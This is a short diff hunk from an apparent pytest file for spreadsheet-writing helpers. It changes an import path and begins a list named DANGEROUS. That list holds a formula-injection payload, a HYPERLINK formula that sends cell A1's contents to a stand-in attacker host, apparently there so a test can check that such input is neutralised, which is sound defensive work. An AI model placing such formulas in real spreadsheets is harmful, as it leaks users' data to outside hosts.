@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from openpyxl import load_workbook
 
-from tools.spreadsheets import Sheet, write_xlsx
+from agents.computer_validation.spreadsheets import Sheet, write_xlsx
 
 DANGEROUS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"cliquez\")",
